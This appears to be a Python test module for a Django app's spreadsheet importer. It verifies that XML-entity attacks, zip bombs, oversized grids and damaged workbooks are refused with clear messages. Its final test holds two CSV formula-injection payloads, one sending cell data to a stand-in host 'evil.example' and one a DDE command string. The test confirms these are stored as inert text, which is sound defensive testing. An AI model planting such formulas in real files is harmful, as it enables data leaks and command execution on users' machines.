"""Hostile spreadsheets (tests/hostile_files.py) through every way in: the admin's import
page and `manage.py import_workbook`. Each is refused with a message that says what is
wrong, before python-calamine reads it, and nothing is stored."""

from __future__ import annotations

import io
from io import StringIO
from unittest import mock

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from deals.importer import FileRefused, import_file
from deals.models import ImportRun
from delegations.models import Organization
from tests import hostile_files
from tests.delegations.test_admin import page_text
from tests.factories import DATA_ENTRY, staff_member

pytestmark = pytest.mark.django_db

# (builder, settings of the limits, what the refusal says)
HOSTILE = {
    "billion laughs": (
        hostile_files.billion_laughs,
        {},
        "“xl/worksheets/sheet1.xml” declares a document type",
    ),
    "external entity": (
        hostile_files.external_entity,
        {},
        "“xl/worksheets/sheet1.xml” declares a document type",
    ),
    "external entity in the relations": (
        hostile_files.external_entity_in_shared_strings,
        {},
        "“xl/_rels/workbook.xml.rels” declares a document type",
    ),
    "huge declared dimension": (
        hostile_files.huge_dimension,
        {},
        "A sheet of this file has 1,048,575 rows; at most 1,000,000 are imported at once",
    ),
    "a cell in the last row and column": (
        hostile_files.far_cell,
        {},
        "A sheet of this file has 1,048,575 rows",
    ),
    "the same, behind line breaks": (
        hostile_files.far_cell_behind_line_breaks,
        {},
        "A sheet of this file has 1,048,575 rows",
    ),
    "a cell in the last column": (
        hostile_files.far_column,
        {},
        "The sheet “组织” has 16384 columns; at most 200 are read",
    ),
    "a grid too large to hold": (
        hostile_files.wide_and_long,
        {},
        "span 20,000,200 cells from their first to their last; at most 20,000,000 are read",
    ),
    "zip bomb": (hostile_files.zip_bomb, {}, "This workbook unpacks to 5.0 MB in 3 parts"),
    "unpacks too far": (
        lambda: hostile_files.unpacks_too_far(10 * 1024 * 1024),
        {"IMPORT_MAX_BYTES": 1024 * 1024},
        "This workbook unpacks to 10.5 MB in 14 parts",
    ),
    "too many parts": (hostile_files.too_many_parts, {}, "This workbook is made of 10,003 parts"),
    "too large": (
        hostile_files.clean_workbook,
        {"IMPORT_MAX_BYTES": 1000},
        "files over 1000 bytes are refused",
    ),
    "too many rows": (
        hostile_files.clean_workbook,
        {"IMPORT_MAX_ROWS": 0},
        "A sheet of this file has 1 rows; at most 0 are imported at once",
    ),
    "not a zip but named xlsx": (hostile_files.damaged_zip, {}, "it is damaged"),
    "a workbook cut short": (hostile_files.truncated_workbook, {}, "it is damaged"),
}


@pytest.fixture(params=list(HOSTILE), ids=list(HOSTILE))
def hostile(request, settings):
    """A hostile file with its limits set; python-calamine must never see it (some of
    these abort the process that reads them)."""
    build, limits, message = HOSTILE[request.param]
    settings.EXPO = {**settings.EXPO, **limits}
    with mock.patch(
        "deals.importing.reading.CalamineWorkbook.from_filelike",
        side_effect=AssertionError("python-calamine was given a hostile file"),
    ):
        yield build(), message


def test_the_engine_refuses_each_hostile_file_before_reading_it(hostile):
    data, message = hostile

    with pytest.raises(FileRefused) as refused:
        import_file(data, filename="组织.xlsx", dry_run=False)

    assert message in refused.value.message_en
    assert refused.value.message_zh != refused.value.message_en
    assert not Organization.objects.exists()


def test_the_admin_import_page_shows_why_a_hostile_file_is_refused(client, hostile):
    data, message = hostile
    client.force_login(staff_member(DATA_ENTRY))
    file = io.BytesIO(data)
    file.name = "组织.xlsx"

    response = client.post(reverse("admin:deals_importrun_import"), {"file": file, "sheet": ""})

    assert response.status_code == 200
    text = page_text(response)
    assert message.replace("1000 bytes", "1000\xa0bytes") in text or message in text
    assert "errornote" in response.content.decode()
    assert not Organization.objects.exists()
    assert not ImportRun.objects.exclude(status=ImportRun.Status.REFUSED).exists()


def test_the_command_names_the_file_and_why_it_is_refused(hostile, tmp_path):
    data, message = hostile
    path = tmp_path / "组织.xlsx"
    path.write_bytes(data)

    with pytest.raises(CommandError) as failed:
        call_command("import_workbook", str(path), stdout=StringIO(), stderr=StringIO())

    assert str(failed.value).startswith("组织.xlsx was refused: ")
    assert message in str(failed.value)
    assert not Organization.objects.exists()
    assert ImportRun.objects.get().status == ImportRun.Status.REFUSED


def test_a_part_longer_than_its_headers_say_is_refused(tmp_path):
    """The checks read each part as far as its headers declare; python-calamine's zip
    reader refuses to read further, so what lies past the declared end is never read."""
    path = tmp_path / "组织.xlsx"
    path.write_bytes(hostile_files.lying_sizes())

    with pytest.raises(CommandError) as failed:
        call_command("import_workbook", str(path), stdout=StringIO(), stderr=StringIO())

    assert "File is larger than its declared uncompressed size" in str(failed.value)
    assert not Organization.objects.exists()


def test_the_xml_of_a_clean_workbook_passes_the_checks():
    result = import_file(hostile_files.clean_workbook(), filename="组织.xlsx", dry_run=False)

    assert result.ok, [str(error) for error in result.errors]
    assert Organization.objects.get().name_zh == "国美零售"


def test_a_sheet_that_reaches_the_last_allowed_column_is_read(settings):
    book = hostile_files.rewritten({hostile_files.SHEET_PART: hostile_files.with_cell("GR2")})

    result = import_file(book, filename="组织.xlsx", dry_run=True)

    assert result.ok
    assert "not part of the sheet" not in str(result.warnings)


def test_formula_cells_of_a_csv_are_stored_as_text_never_run(client):
    """A CSV's cells are text: a formula stays the text the clerk typed, and is escaped
    again on the way out (tests/deals/test_export*.py)."""
    result = import_file(hostile_files.formula_csv(), filename="组织.csv", dry_run=False)

    assert result.ok
    assert sorted(Organization.objects.values_list("name_zh", "industry")) == [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+1"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    ]
